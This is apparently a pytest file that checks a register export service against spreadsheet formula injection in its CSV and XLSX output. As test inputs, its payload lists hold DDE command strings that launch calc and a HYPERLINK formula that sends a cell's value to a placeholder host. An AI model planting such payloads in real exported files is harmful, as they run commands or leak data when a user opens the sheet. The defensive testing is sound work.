"""Every CSV and XLSX the service writes holds text as text: no cell a spreadsheet program runs as a formula, and the
file still imports back to the same values."""

import csv
import io
import json
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner

from app.cli import cli
from app.config import Settings
from app.coverage import export as coverage_export
from app.formats import spreadsheets
from tests.tools import own_database

# What a spreadsheet program would run: formulas, DDE, and the characters that start one (OWASP, CSV injection).
FORMULAS = [
    '=HYPERLINK("http://x?x="&B2,"点击查看")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",  # full-width, as a Chinese input method types it
]
# Text that only looks like something else, or that starts with the quote the CSV escape uses.
LOOKALIKES = ["#N/A", "'=1+1", "'abc", "''", "'", "1001", "-", "2026-03-01"]


STARTS = ("=", "+", "-", "@", "\t", "\r", "＝")


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def csv_cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", FORMULAS + LOOKALIKES)
def test_xlsx_cells_holding_text_are_strings(text: str) -> None:
    data = spreadsheets.to_xlsx(["name", "lon", "count"], [[text, -2.5, 3]], "sites")
    sheet = load_workbook(io.BytesIO(data)).active
    name, lon, count = sheet[2]
    # XML reads a CR as a line feed (the register's text holds neither: app.formats.text).
    assert (name.data_type, name.value) == ("s", text.replace("\r", "\n"))
    assert (lon.data_type, lon.value) == ("n", -2.5) and (count.data_type, count.value) == ("n", 3)
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert b"<f>" not in book.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_values_that_start_a_formula_are_quoted(text: str) -> None:
    data = spreadsheets.to_csv(["name", "lon", "lat"], [[text, -2.5, 51.5]])
    assert csv_cells(data)[1] == ["'" + text, "-2.5", "51.5"]
    assert spreadsheets.unquoted("'" + text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [("'=1+1", "''=1+1"), ("''", "'''"), ("'abc", "'abc"), ("'", "'"), ("#N/A", "#N/A"), ("-", "'-"), ("a=b", "a=b")],
)
def test_csv_quote_escape_reads_back_exactly(text: str, written: str) -> None:
    assert csv_cells(spreadsheets.to_csv(["name"], [[text]]))[1] == [written]
    assert spreadsheets.unquoted(written) == text


def test_lists_and_negative_numbers_in_csv() -> None:
    """Numbers are numbers: a negative longitude is not text and is written as it is."""
    rows = [[["=a", "b"], -117.5, -0.0, 0], [["b", "=a"], -1, None, -2]]
    assert csv_cells(spreadsheets.to_csv(["photos", "lon", "x", "y"], rows))[1:] == [
        ["'=a;b", "-117.5", "-0.0", "0"],
        ["b;=a", "-1", "", "-2"],
    ]


def test_the_coverage_table_writes_region_names_as_text() -> None:
    row: dict[str, Any] = {
        "adcode": "371602",
        "name": "=1+2",
        "rule_label": "@rule",
        "method": "+m",
        "area_km2": -1.5,
        "covered_area_km2": 0.0,
        "covered_area_share": 0.5,
        "population": 10,
        "covered_population": 5,
        "covered_population_share": 0.5,
        "site_count": 2,
        "worst_served": None,
    }
    assert csv_cells(coverage_export.to_csv([row]))[1][:5] == ["371602", "'=1+2", "'@rule", "'+m", "-1.5"]
    sheet = load_workbook(io.BytesIO(coverage_export.to_xlsx([row], "371602 legal_aid"))).active
    assert [(c.data_type, c.value) for c in sheet[2][:5]] == [
        ("s", "371602"),
        ("s", "=1+2"),
        ("s", "@rule"),
        ("s", "+m"),
        ("n", -1.5),
    ]


# Sites a partner may well send: every text field that a spreadsheet would run, and a point west of Greenwich.
HOSTILE_SITES = [
    {
        "external_id": "=1+1",
        "kind": "legal_aid",
        "name": '=HYPERLINK("http://x?x="&B2,"点击查看")',
        "address": "@SUM(A1)",
        "phone": "+86 543 1234567",
        "operator": "-2+3+cmd|' /C calc'!A0",
        "lat": 37.38,
        "lon": 117.97,
        "services": ["=法律咨询", "+调解"],
    },
    {"external_id": "-1", "kind": "legal_aid", "name": "+cmd|' /C calc'!A0", "lat": 51.5, "lon": -2.5},
    {"external_id": "'=2", "kind": "legal_aid", "name": "'=quoted", "keeper": "'王", "lat": -33.9, "lon": 151.2},
    {"external_id": "@3", "kind": "legal_aid", "name": "＝全角", "access_note": "#N/A", "lat": 37.4, "lon": 117.9},
]


@pytest.fixture(scope="module")
def register(tmp_path_factory: pytest.TempPathFactory) -> Any:
    with own_database("spreadsheets") as (settings, _):
        rows = tmp_path_factory.mktemp("hostile") / "hostile.json"
        rows.write_text(json.dumps(HOSTILE_SITES), encoding="utf-8")
        yield settings, rows


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
def test_an_exported_register_with_hostile_names_imports_back_unchanged(
    register: tuple[Settings, Path], monkeypatch: pytest.MonkeyPatch, tmp_path: Path, suffix: str
) -> None:
    settings, rows = register
    monkeypatch.setenv("DATABASE_URL", str(settings.database_url))
    runner = CliRunner()
    made = runner.invoke(cli, ["import", str(rows), "--source", "hostile"])
    assert made.exit_code == 0, made.output
    exported = tmp_path / f"register{suffix}"
    assert runner.invoke(cli, ["export", str(exported), "--kind", "legal_aid"]).exit_code == 0

    if suffix == ".xlsx":
        sheet = load_workbook(exported).active
        header = [c.value for c in sheet[1]]
        found = {r[header.index("external_id")].value: r for r in sheet.iter_rows(min_row=2)}
        for site in HOSTILE_SITES:
            cells = found[site["external_id"]]
            for field in ("external_id", "name", "address", "phone", "operator", "keeper", "access_note"):
                if field in site:
                    cell = cells[header.index(field)]
                    assert (cell.data_type, cell.value) == ("s", site[field])
            lon = cells[header.index("lon")]
            assert lon.data_type == "n" and lon.value == pytest.approx(site["lon"])
    else:
        table = csv_cells(exported.read_bytes())
        header = table[0]
        found = {spreadsheets.unquoted(r[header.index("external_id")]): r for r in table[1:]}
        quoted = {"'" + str(site["name"]) for site in HOSTILE_SITES[:2]}
        assert quoted <= {r[header.index("name")] for r in found.values()}
        assert found["-1"][header.index("lon")] == "-2.5" and found["-1"][header.index("external_id")] == "'-1"
        assert found["'=2"][header.index("external_id")] == "''=2"
        for row in table[1:]:
            assert all(is_number(value) or not value.startswith(STARTS) for value in row), row

    again = runner.invoke(cli, ["import", str(exported), "--dry-run"])
    assert again.exit_code == 0, again.output
    assert "rejected 0" in again.output and "updated 0" in again.output and "created 0" in again.output
